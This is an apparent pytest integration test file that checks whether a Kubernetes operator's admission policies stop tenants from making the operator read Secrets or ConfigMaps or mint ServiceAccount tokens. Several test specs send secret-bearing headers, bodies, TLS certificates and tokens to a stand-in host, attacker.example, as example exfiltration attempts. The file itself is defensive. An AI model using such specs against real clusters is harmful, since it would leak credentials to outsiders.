"""The admission policies, on the real API server: a tenant who may create our kinds but not read
Secrets cannot make the operator read a Secret or mint a token on its behalf.

Tenants are ServiceAccounts holding a Role on our three kinds only; the admin (the session's
operator user) and tenants granted exactly the right in question are let through.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client, config
from kubernetes.client.rest import ApiException

from durable_search.api.admission import (
    MAX_DISTINCT_SECRETS,
    PARAM_CONFIGMAP,
    PARAM_OPERATOR_USERS,
    POLICY_NAMES,
    service_account_user,
)
from durable_search.api.constants import GROUP, HTTPTASK_PLURAL, PROVIDER_PLURAL, VERSION
from durable_search.api.status import Body
from tests.support.demo import DemoSite
from tests.support.fixtures import Admission
from tests.support.kubeconfigs import kubeconfig_with_token
from tests.support.processes import OperatorProcess
from tests.support.searches import Searches, create_provider
from tests.support.waiting import eventually

KINDS = {"httptasks": "HttpTask", "searches": "Search", "searchproviders": "SearchProvider"}
OUR_KINDS = ["searches", "httptasks", "searchproviders"]


def secret_header(secret: str, name: str = "X-Key") -> Body:
    return {"name": name, "valueFrom": {"secretKeyRef": {"name": secret, "key": "key"}}}


def unique(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:6]}"


class Actor:
    """Someone creating and changing our objects in one namespace, with their own credentials."""

    def __init__(self, api: client.ApiClient, namespace: str) -> None:
        self.api = api
        self.custom = client.CustomObjectsApi(api)
        self.namespace = namespace

    def create(self, plural: str, spec: Body, name: str | None = None) -> Body:
        body = {
            "apiVersion": f"{GROUP}/{VERSION}",
            "kind": KINDS[plural],
            "metadata": {"name": name or unique(plural[:4])},
            "spec": spec,
        }
        created: Body = self.custom.create_namespaced_custom_object(
            GROUP, VERSION, self.namespace, plural, body
        )
        return created

    def patch(self, plural: str, name: str, patch: Body) -> Body:
        patched: Body = self.custom.patch_namespaced_custom_object(
            GROUP, VERSION, self.namespace, plural, name, patch
        )
        return patched

    def refusal(self, call: Callable[[], object]) -> tuple[int, str]:
        """The status code and message of the API server's refusal of ``call``."""
        try:
            call()
        except ApiException as error:
            return error.status, json.loads(error.body)["message"]
        raise AssertionError("the API server accepted what the admission policies must refuse")

    def refused_create(self, plural: str, spec: Body) -> tuple[int, str]:
        return self.refusal(lambda: self.create(plural, spec))


@dataclass
class Tenants:
    """ServiceAccounts of a namespace holding a Role on our kinds (and what else is granted)."""

    api_client: client.ApiClient
    kubeconfig: Path
    directory: Path
    namespace: str
    clients: list[client.ApiClient] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.core = client.CoreV1Api(self.api_client)
        self.rbac = client.RbacAuthorizationV1Api(self.api_client)

    def grant(self, account: str, rule: client.V1PolicyRule) -> None:
        name = unique(account)
        self.rbac.create_namespaced_role(
            self.namespace,
            client.V1Role(metadata=client.V1ObjectMeta(name=name), rules=[rule]),
        )
        self.rbac.create_namespaced_role_binding(
            self.namespace,
            client.V1RoleBinding(
                metadata=client.V1ObjectMeta(name=name),
                role_ref=client.V1RoleRef(
                    api_group="rbac.authorization.k8s.io", kind="Role", name=name
                ),
                subjects=[
                    client.RbacV1Subject(
                        kind="ServiceAccount", name=account, namespace=self.namespace
                    )
                ],
            ),
        )

    def tenant(self, account: str) -> Actor:
        """A new ServiceAccount that may do anything with our kinds, and nothing else."""
        self.core.create_namespaced_service_account(
            self.namespace, client.V1ServiceAccount(metadata=client.V1ObjectMeta(name=account))
        )
        self.grant(
            account,
            client.V1PolicyRule(api_groups=[GROUP], resources=OUR_KINDS, verbs=["*"]),
        )
        token = self.core.create_namespaced_service_account_token(
            account,
            self.namespace,
            client.AuthenticationV1TokenRequest(
                spec=client.V1TokenRequestSpec(audiences=[], expiration_seconds=3600)
            ),
        ).status.token
        path = kubeconfig_with_token(
            self.kubeconfig, token, self.directory / f"{account}.kubeconfig"
        )
        api = config.new_client_from_config(config_file=str(path))
        self.clients.append(api)
        return Actor(api, self.namespace)

    def may_get_secret(self, account: str, *names: str) -> None:
        self.grant(
            account,
            client.V1PolicyRule(
                api_groups=[""], resources=["secrets"], resource_names=list(names), verbs=["get"]
            ),
        )

    def may_get_config_map(self, account: str, *names: str) -> None:
        self.grant(
            account,
            client.V1PolicyRule(
                api_groups=[""], resources=["configmaps"], resource_names=list(names), verbs=["get"]
            ),
        )

    def may_create_token(self, account: str, *service_accounts: str) -> None:
        self.grant(
            account,
            client.V1PolicyRule(
                api_groups=[""],
                resources=["serviceaccounts/token"],
                resource_names=list(service_accounts) or None,
                verbs=["create"],
            ),
        )


@pytest.fixture
def tenants(
    api_client: client.ApiClient, kubeconfig: Path, tmp_path: Path, isolated_namespace: str
) -> Iterator[Tenants]:
    made = Tenants(api_client, kubeconfig, tmp_path, isolated_namespace)
    try:
        yield made
    finally:
        for api in made.clients:
            api.close()


@pytest.fixture
def admin(api_client: client.ApiClient, isolated_namespace: str) -> Actor:
    return Actor(api_client, isolated_namespace)


def accepted_eventually(call: Callable[[], object], message: str) -> None:
    """``call`` succeeds once a new RoleBinding has reached the API server's authorizer."""

    def attempt() -> bool:
        try:
            call()
        except ApiException as error:
            if error.status == 403:
                return False
            raise
        return True

    eventually(attempt, timeout=15, message=message)


# -- every way of naming a Secret or a token ------------------------------------------------


@dataclass(frozen=True)
class Case:
    plural: str
    spec: Body
    message: str
    # What the tenant is then granted (secrets to get, or ServiceAccounts to mint for).
    secrets: tuple[str, ...] = ()
    service_accounts: tuple[str, ...] = ()
    config_maps: tuple[str, ...] = ()
    # Granted before the first attempt, so the refusal names the other field.
    granted_first: tuple[str, ...] = ()


def _oauth2(client_id: str, client_secret: str) -> Body:
    return {
        "request": {
            "url": "https://api.example/v1",
            "auth": {
                "oauth2ClientCredentials": {
                    "tokenUrl": "https://login.example/token",
                    "clientId": {"secretKeyRef": {"name": client_id, "key": "id"}},
                    "clientSecret": {"secretKeyRef": {"name": client_secret, "key": "secret"}},
                }
            },
        }
    }


def _request_with(**fields: Any) -> Body:
    return {"request": {"url": "https://attacker.example/collect", "method": "POST", **fields}}


CASES = {
    "httptask-body-secret": Case(
        "httptasks",
        _request_with(bodyFrom={"secretKeyRef": {"name": "keyed", "key": "key"}}),
        'user may not get Secret "keyed" named by spec.request.bodyFrom.secretKeyRef',
        secrets=("keyed",),
    ),
    # ConfigMaps too: the body is sent to the author's URL (a confused deputy otherwise).
    "httptask-body-configmap": Case(
        "httptasks",
        _request_with(bodyFrom={"configMapKeyRef": {"name": "settings", "key": "key"}}),
        'user may not get ConfigMap "settings" named by spec.request.bodyFrom.configMapKeyRef',
        config_maps=("settings",),
    ),
    "httptask-tls-client-certificate": Case(
        "httptasks",
        _request_with(tls={"clientCertificateFrom": {"secretName": "client-cert"}}),
        'user may not get Secret "client-cert" named by spec.request.tls.clientCertificateFrom',
        secrets=("client-cert",),
    ),
    "httptask-tls-ca-bundle": Case(
        "httptasks",
        _request_with(tls={"caBundleFrom": {"configMapKeyRef": {"name": "cas", "key": "ca"}}}),
        'user may not get ConfigMap "cas" named by spec.request.tls.caBundleFrom',
        config_maps=("cas",),
    ),
    "search-inline-provider-body": Case(
        "searches",
        {
            "query": "q",
            "providers": [
                {
                    "name": "site",
                    "url": "https://attacker.example/?q={query}",
                    "method": "POST",
                    "bodyFrom": {"secretKeyRef": {"name": "keyed", "key": "key"}},
                },
            ],
        },
        'user may not get Secret "keyed" named by spec.providers[site].bodyFrom.secretKeyRef',
        secrets=("keyed",),
    ),
    "search-inline-provider-tls-client-certificate": Case(
        "searches",
        {
            "query": "q",
            "providers": [
                {"name": "plain", "url": "https://a.example/?q={query}"},
                {
                    "name": "site",
                    "url": "https://attacker.example/?q={query}",
                    "tls": {"clientCertificateFrom": {"secretName": "client-cert"}},
                },
            ],
        },
        'user may not get Secret "client-cert" named by '
        "spec.providers[site].tls.clientCertificateFrom",
        secrets=("client-cert",),
    ),
    "searchprovider-body-secret": Case(
        "searchproviders",
        {
            "url": "https://attacker.example/?q={query}",
            "method": "POST",
            "bodyFrom": {"secretKeyRef": {"name": "keyed", "key": "key"}},
        },
        'user may not get Secret "keyed" named by spec.bodyFrom.secretKeyRef',
        secrets=("keyed",),
    ),
    "searchprovider-tls-client-certificate": Case(
        "searchproviders",
        {
            "url": "https://attacker.example/?q={query}",
            "tls": {"clientCertificateFrom": {"secretName": "client-cert"}},
        },
        'user may not get Secret "client-cert" named by spec.tls.clientCertificateFrom',
        secrets=("client-cert",),
    ),
    "httptask-header": Case(
        "httptasks",
        {
            "request": {
                "url": "https://attacker.example/collect",
                "headers": [{"name": "Accept", "value": "*/*"}, secret_header("keyed")],
            }
        },
        'user may not get Secret "keyed" named by spec.request.headers',
        secrets=("keyed",),
    ),
    "oauth2-client-id": Case(
        "httptasks",
        _oauth2("client-id", "client-secret"),
        'user may not get Secret "client-id" named by '
        "spec.request.auth.oauth2ClientCredentials.clientId",
        secrets=("client-id",),
        granted_first=("client-secret",),
    ),
    "oauth2-client-secret": Case(
        "httptasks",
        _oauth2("client-id", "client-secret"),
        'user may not get Secret "client-secret" named by '
        "spec.request.auth.oauth2ClientCredentials.clientSecret",
        secrets=("client-secret",),
        granted_first=("client-id",),
    ),
    "service-account-token": Case(
        "httptasks",
        {
            "request": {
                "url": "https://attacker.example/collect",
                "auth": {
                    "serviceAccountToken": {
                        "serviceAccountName": "caller",
                        "audience": "https://api.example",
                    }
                },
            }
        },
        'user may not create a token for ServiceAccount "caller" (serviceaccounts/token) '
        "named by spec.request.auth.serviceAccountToken",
        service_accounts=("caller",),
    ),
    "search-inline-provider-header": Case(
        "searches",
        {
            "query": "q",
            "providers": [
                {"name": "plain", "url": "https://a.example/?q={query}"},
                {
                    "name": "site",
                    "url": "https://attacker.example/?q={query}",
                    "headers": [secret_header("keyed")],
                },
            ],
        },
        'user may not get Secret "keyed" named by spec.providers[site].headers',
        secrets=("keyed",),
    ),
    "searchprovider-header": Case(
        "searchproviders",
        {"url": "https://attacker.example/?q={query}", "headers": [secret_header("keyed")]},
        'user may not get Secret "keyed" named by spec.headers',
        secrets=("keyed",),
    ),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_every_way_of_naming_a_secret_or_a_token_is_refused_to_a_tenant_without_the_right(
    case: Case, tenants: Tenants, admin: Actor
) -> None:
    tenant = tenants.tenant("tenant")
    if case.granted_first:
        # The other Secret is granted: once that reaches the authorizer, this one is named.
        tenants.may_get_secret("tenant", *case.granted_first)
        eventually(
            lambda: tenant.refused_create(case.plural, case.spec)[1].endswith(case.message),
            timeout=15,
            message="the refusal names the one Secret not granted",
        )

    status, message = tenant.refused_create(case.plural, case.spec)
    assert status == 403
    assert message.endswith(case.message), message
    assert f"ValidatingAdmissionPolicy 'durable-search-{case.plural}'" in message

    # The admin may get every Secret and mint every token: the same object is accepted.
    admin.create(case.plural, case.spec)

    # And so is the tenant, once granted exactly that Secret or that ServiceAccount's token.
    if case.secrets:
        tenants.may_get_secret("tenant", *case.secrets)
    if case.service_accounts:
        tenants.may_create_token("tenant", *case.service_accounts)
    if case.config_maps:
        tenants.may_get_config_map("tenant", *case.config_maps)
    accepted_eventually(
        lambda: tenant.create(case.plural, case.spec), "the tenant's grant reaches the authorizer"
    )


def test_a_grant_for_another_secret_or_service_account_does_not_count(
    tenants: Tenants,
) -> None:
    tenant = tenants.tenant("tenant")
    tenants.may_get_secret("tenant", "other")
    tenants.may_create_token("tenant", "other")
    # A right that lets the tenant through elsewhere shows the grants have reached the authorizer.
    accepted_eventually(
        lambda: tenant.create(
            "httptasks",
            {"request": {"url": "https://a.example/", "headers": [secret_header("other")]}},
        ),
        "the tenant's grant reaches the authorizer",
    )
    for key in ("httptask-header", "service-account-token", "searchprovider-header"):
        status, message = tenant.refused_create(CASES[key].plural, CASES[key].spec)
        assert (status, message.endswith(CASES[key].message)) == (403, True), message


# -- using a SearchProvider by name -----------------------------------------------------------


def test_a_tenant_may_use_an_admins_secret_naming_provider_by_name_but_not_copy_it_inline(
    api_client: client.ApiClient,
    kubeconfig: Path,
    tmp_path: Path,
    namespace: str,
    operator: OperatorProcess,
    searches: Searches,
    demo_site: DemoSite,
) -> None:
    client.CoreV1Api(api_client).create_namespaced_secret(
        namespace,
        client.V1Secret(metadata=client.V1ObjectMeta(name="keyed"), string_data={"key": "k-42"}),
    )
    url = demo_site.url("delegated")
    create_provider(api_client, namespace, "keyed-site", url, headers=[secret_header("keyed")])
    tenants = Tenants(api_client, kubeconfig, tmp_path, namespace)
    try:
        tenant = tenants.tenant("tenant")
        by_name = tenant.create("searches", {"query": "by name", "providerRefs": ["keyed-site"]})
        every = tenant.create("searches", {"query": "every provider"})
        inline = {
            "query": "copied",
            "providers": [{"name": "copy", "url": url, "headers": [secret_header("keyed")]}],
        }
        status, message = tenant.refused_create("searches", inline)
        assert status == 403
        assert message.endswith(
            'user may not get Secret "keyed" named by spec.providers[copy].headers'
        )
    finally:
        for api in tenants.clients:
            api.close()

    # The operator (an operator user, who may get the Secret) creates the HttpTasks that name it.
    for name in (by_name["metadata"]["name"], every["metadata"]["name"]):
        done = searches.wait(name)
        assert done["status"]["phase"] == "Completed", done["status"]
        assert searches.result(done, "keyed-site")["outcome"] == "Succeeded"
    assert {seen["x-key"] for seen in demo_site.stats()["headers"]["delegated"]} == {"k-42"}


# -- the bound on distinct Secrets ----------------------------------------------------------


def _headers(distinct: int, count: int | None = None) -> list[Body]:
    return [secret_header(f"s{i % distinct}", f"X-Key-{i}") for i in range(count or distinct)]


def test_more_than_sixteen_distinct_secrets_are_refused_even_to_the_admin(admin: Actor) -> None:
    too_many = MAX_DISTINCT_SECRETS + 1
    refused = {
        "httptasks": {"request": {"url": "https://a.example/", "headers": _headers(too_many)}},
        "searchproviders": {"url": "https://a.example/?q={query}", "headers": _headers(too_many)},
        # Spread over providers, with repeats: 17 distinct among 40 references.
        "searches": {
            "query": "q",
            "providers": [
                {
                    "name": f"p{p}",
                    "url": "https://a.example/?q={query}",
                    "headers": [
                        secret_header(f"s{(p * 4 + i) % too_many}", f"X-{i}") for i in range(4)
                    ],
                }
                for p in range(10)
            ],
        },
    }
    for plural, spec in refused.items():
        status, message = admin.refused_create(plural, spec)
        assert status == 422, message
        assert message.endswith("names 17 distinct Secrets; at most 16 are allowed"), message

    # Sixteen are accepted: as many headers, or every header (32) and oauth2 among sixteen names.
    admin.create("httptasks", {"request": {"url": "https://a.example/", "headers": _headers(16)}})
    admin.create(
        "searchproviders", {"url": "https://a.example/?q={query}", "headers": _headers(16)}
    )
    spec = _oauth2("s0", "s15")
    spec["request"]["headers"] = _headers(16, 32)
    admin.create("httptasks", spec)


def test_more_than_sixty_four_secret_references_in_a_search_are_refused(admin: Actor) -> None:
    providers = [
        {"name": f"p{p}", "url": "https://a.example/?q={query}", "headers": _headers(1, 5)}
        for p in range(13)
    ]
    status, message = admin.refused_create("searches", {"query": "q", "providers": providers})
    assert status == 422
    assert message.endswith("names 65 Secret references; at most 64 are allowed"), message
    admin.create(
        "searches",
        {"query": "q", "providers": [*providers[:12], providers[12] | {"headers": _headers(1, 4)}]},
    )


# -- tokens for the operator or for the API server ------------------------------------------


def _token_task(account: str, audience: str) -> Body:
    return {
        "request": {
            "url": "https://a.example/",
            "auth": {"serviceAccountToken": {"serviceAccountName": account, "audience": audience}},
        }
    }


@pytest.fixture
def operator_account(
    admission: Admission, isolated_namespace: str, api_client: client.ApiClient
) -> Iterator[str]:
    """ServiceAccount ``operator`` of the test's namespace, added to the operator users."""
    core = client.CoreV1Api(api_client)
    user = service_account_user(isolated_namespace, "operator")
    users = f"{admission.operator_user},{user}"
    core.patch_namespaced_config_map(
        PARAM_CONFIGMAP, admission.namespace, {"data": {PARAM_OPERATOR_USERS: users}}
    )
    try:
        yield "operator"
    finally:
        admission.install()


def test_a_token_for_an_operator_account_or_an_api_audience_is_only_for_the_operator(
    tenants: Tenants, admin: Actor, admission: Admission, operator_account: str
) -> None:
    tenant = tenants.tenant("tenant")
    tenants.may_create_token("tenant")  # every ServiceAccount of the namespace
    operator = tenants.tenant(operator_account)
    tenants.may_create_token(operator_account)
    # The parameter change and the grants are in force once the operator account passes.
    accepted_eventually(
        lambda: operator.create("httptasks", _token_task("tenant", admission.api_audience)),
        "the operator account is an operator user and may create tokens",
    )

    # A token creator may ask for an ordinary token...
    tenant.create("httptasks", _token_task("tenant", "https://api.example"))
    # ...but not for the operator's own account, nor for the API server's audience.
    status, message = tenant.refused_create(
        "httptasks", _token_task(operator_account, "https://api.example")
    )
    assert status == 403
    assert message.endswith(
        f'spec.request.auth.serviceAccountToken names ServiceAccount "{operator_account}", '
        "which is the operator: only the operator may use its token"
    ), message
    status, message = tenant.refused_create(
        "httptasks", _token_task("tenant", admission.api_audience)
    )
    assert status == 403
    assert message.endswith(
        f'spec.request.auth.serviceAccountToken asks for audience "{admission.api_audience}", '
        "which the Kubernetes API server accepts: only the operator may request such a token"
    ), message

    # The operator users may: the operator account itself, and the admin.
    operator.create("httptasks", _token_task(operator_account, "https://api.example"))
    admin.create("httptasks", _token_task(operator_account, admission.api_audience))


# -- updates --------------------------------------------------------------------------------


def test_only_updates_that_change_what_an_object_names_or_where_it_sends_are_checked(
    tenants: Tenants, admin: Actor
) -> None:
    tenant = tenants.tenant("tenant")
    task = admin.create(
        "httptasks",
        {"request": {"url": "https://a.example/", "headers": [secret_header("keyed")]}},
    )["metadata"]["name"]
    provider = admin.create(
        "searchproviders",
        {"url": "https://a.example/?q={query}", "headers": [secret_header("keyed")]},
    )["metadata"]["name"]

    # Terminating stops the use of a Secret, never extends it: a tenant may stop the admin's task.
    terminated = tenant.patch(HTTPTASK_PLURAL, task, {"spec": {"terminate": True}})
    assert terminated["spec"]["terminate"] is True
    labelled = tenant.patch(PROVIDER_PLURAL, provider, {"metadata": {"labels": {"team": "a"}}})
    assert labelled["metadata"]["labels"] == {"team": "a"}

    # Pointing the admin's provider (and its Secret) somewhere else is a change of its spec.
    status, message = tenant.refusal(
        lambda: tenant.patch(
            PROVIDER_PLURAL, provider, {"spec": {"url": "https://attacker.example/?q={query}"}}
        )
    )
    assert status == 403
    assert message.endswith('user may not get Secret "keyed" named by spec.headers'), message
    assert (
        admin.patch(PROVIDER_PLURAL, provider, {"spec": {"method": "POST"}})["spec"]["method"]
        == "POST"
    )


# -- the policies themselves ----------------------------------------------------------------


def test_the_policies_type_check_against_the_crds(api_client: client.ApiClient) -> None:
    registration = client.AdmissionregistrationV1Api(api_client)

    def checked() -> bool:
        for name in POLICY_NAMES:
            policy = registration.read_validating_admission_policy(name)
            if (policy.status and policy.status.observed_generation) != policy.metadata.generation:
                return False
        return True

    eventually(checked, message="the API server type-checks the policies")
    for name in POLICY_NAMES:
        status = registration.read_validating_admission_policy(name).status
        assert status.type_checking is not None
        assert not status.type_checking.expression_warnings, status.type_checking
        assert registration.read_validating_admission_policy_binding(name).spec.policy_name == name


def test_without_its_parameter_every_create_of_our_kinds_is_refused(
    admission: Admission, admin: Actor, api_client: client.ApiClient
) -> None:
    core = client.CoreV1Api(api_client)
    plain = {"request": {"url": "https://a.example/"}}
    core.delete_namespaced_config_map(PARAM_CONFIGMAP, admission.namespace)
    try:

        def refused() -> bool:
            try:
                admin.create("httptasks", plain)
            except ApiException as error:
                return "no params found for policy binding" in json.loads(error.body)["message"]
            return False

        eventually(refused, message="the bindings deny once their parameter is gone")
    finally:
        admission.install()
    admin.create("httptasks", plain)
